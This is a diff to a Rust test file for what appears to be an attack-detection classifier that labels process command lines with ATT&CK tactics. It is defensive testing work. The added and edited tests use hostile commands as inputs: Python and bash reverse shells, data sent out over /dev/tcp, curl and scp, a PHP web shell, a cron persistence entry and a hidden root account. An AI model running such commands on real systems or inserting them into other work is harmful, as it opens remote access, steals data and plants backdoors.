@@ -128,6 +128,15 @@ fn started(argv: &[&str], ts: u64) -> Event {
     }
 }
 
+/// The tactic and technique a fresh classifier names a program started
+/// with `argv` by.
+fn name_started(argv: &[&str]) -> (String, String) {
+    let mut c = classifier();
+    let (f, p) = c.classify(&started(argv, 1_000_000_000));
+    let a = c.explain(&f, &p, 3);
+    (a.tactic, a.technique)
+}
+
 #[test]
 fn an_interpreter_started_with_nothing_else_to_say_is_execution() {
     // Not the class's guess: starting a shell or an interpreter is ATT&CK
@@ -291,12 +300,6 @@ fn a_download_run_by_a_shell_is_named_by_the_program_it_fetches() {
 
 #[test]
 fn a_shell_started_through_a_programs_arguments_is_execution() {
-    let name = |argv: &[&str]| {
-        let mut c = classifier();
-        let (f, p) = c.classify(&started(argv, 1_000_000_000));
-        let a = c.explain(&f, &p, 3);
-        (a.tactic, a.technique)
-    };
     // `find` is file discovery and `ip` network discovery by themselves;
     // here they are the vehicle for a shell.
     for argv in [
@@ -312,23 +315,23 @@ fn a_shell_started_through_a_programs_arguments_is_execution() {
         ][..],
     ] {
         assert_eq!(
-            name(argv),
+            name_started(argv),
             ("execution".into(), "T1059.004".into()),
             "{argv:?}"
         );
     }
     // The program's own name is not a shell started through it.
-    let (t, technique) = name(&["/bin/sh", "-c", "uname -a; cat /etc/os-release"]);
+    let (t, technique) = name_started(&["/bin/sh", "-c", "uname -a; cat /etc/os-release"]);
     assert_eq!(t, "discovery", "{technique}");
     // A shell wired to a peer is still a command channel, and one written
     // into a start-up location still persistence.
-    let (t, technique) = name(&[
+    let (t, technique) = name_started(&[
         "python3",
         "-c",
         "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
     ]);
     assert_eq!(t, "command-and-control", "{technique}");
-    let (t, technique) = name(&[
+    let (t, technique) = name_started(&[
         "sh",
         "-c",
         "echo '* * * * * root /bin/sh /opt/x' > /etc/cron.d/upd",
@@ -336,7 +339,7 @@ fn a_shell_started_through_a_programs_arguments_is_execution() {
     assert_eq!(t, "persistence", "{technique}");
     // Code that will start a shell, written where a web server runs it,
     // is a web shell installed (what the arguments name), not a shell run.
-    let (t, technique) = name(&[
+    let (t, technique) = name_started(&[
         "sh",
         "-c",
         "printf '<?php passthru(system($_REQUEST[1])); ?>' > /var/www/html/img/x.php",
@@ -381,4 +384,125 @@ fn tactics_follow_the_labelled_corpus_where_it_names_one() {
         checked.insert(parent.to_string());
     }
     assert!(checked.len() > 50, "{} techniques", checked.len());
+}
+
+#[test]
+fn data_is_named_by_the_direction_it_moves() {
+    // A local file sent to another host is exfiltration, whatever the
+    // tool; a remote file fetched here is ingress tool transfer.
+    for argv in [
+        &[
+            "scp",
+            "-P",
+            "2222",
+            "/tmp/all.sql",
+            "loot@198.51.100.9:/srv/",
+        ][..],
+        &[
+            "curl",
+            "-X",
+            "POST",
+            "--data-binary",
+            "@/tmp/e",
+            "http://203.0.113.7",
+        ][..],
+        &["ab", "-p", "/tmp/e", "http://203.0.113.7/"][..],
+    ] {
+        assert_eq!(
+            name_started(argv),
+            ("exfiltration".into(), "T1048".into()),
+            "{argv:?}"
+        );
+    }
+    assert_eq!(
+        name_started(&["scp", "user@203.0.113.7:/srv/tool", "/tmp/tool"]),
+        ("command-and-control".into(), "T1105".into())
+    );
+    // A file's contents written into a /dev/tcp socket are sent out; the
+    // same socket wired to a shell is a command channel.
+    assert_eq!(
+        name_started(&[
+            "bash",
+            "-c",
+            "echo -n \"$(</root/notes)\" >/dev/tcp/203.0.113.7/4444"
+        ]),
+        ("exfiltration".into(), "T1048".into())
+    );
+    let (t, technique) =
+        name_started(&["bash", "-c", "exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1"]);
+    assert_eq!(t, "command-and-control", "{technique}");
+}
+
+#[test]
+fn a_program_a_web_servers_shell_runs_is_named_by_what_it_does() {
+    // What the web server's shell runs is named by what it does (a
+    // download, a hidden file made), not more execution through the
+    // shell; the explanation does not call the program a shell.
+    let cases = [
+        (
+            &["curl", "-s", "http://203.0.113.7/srv/files/update-agent"][..],
+            ("command-and-control", "T1105"),
+        ),
+        (&["touch", "/tmp/.k"][..], ("defense-evasion", "T1564.001")),
+    ];
+    for (argv, want) in cases {
+        let mut c = classifier();
+        let sh = Event {
+            pid: 4000,
+            ppid: 3000,
+            ..shell(&argv.join(" "), "php-fpm8.2", 1_000_000_000)
+        };
+        c.classify(&sh);
+        let child = Event {
+            pid: 4001,
+            ppid: 4000,
+            uid: 33,
+            ..started(argv, 1_001_000_000)
+        };
+        let (f, p) = c.classify(&child);
+        let a = c.explain(&f, &p, 5);
+        assert_eq!(
+            (a.tactic.as_str(), a.technique.as_str()),
+            want,
+            "{argv:?}: {}",
+            a.explanation
+        );
+        assert!(
+            !a.explanation.contains(&format!("shell {}", argv[0])),
+            "{}",
+            a.explanation
+        );
+    }
+}
+
+#[test]
+fn a_login_shell_set_for_an_account_is_not_a_shell_started() {
+    // `-s /bin/bash` is the account's login shell: the account is made
+    // (persistence), no shell runs.
+    let mut c = classifier();
+    let (f, p) = c.classify(&started(
+        &[
+            "useradd",
+            "-o",
+            "-u",
+            "0",
+            "-M",
+            "-s",
+            "/bin/bash",
+            "sysupdate",
+        ],
+        1_000_000_000,
+    ));
+    let a = c.explain(&f, &p, 3);
+    assert_eq!(
+        (a.tactic.as_str(), a.technique.as_str()),
+        ("persistence", "T1136.001")
+    );
+    assert!(!f.context.shell_in_arguments);
+    // A shell's file copied is not a shell started either.
+    let (f, _) = c.classify(&started(
+        &["cp", "/bin/bash", "/var/tmp/.sh"],
+        2_000_000_000,
+    ));
+    assert!(!f.context.shell_in_arguments);
 }
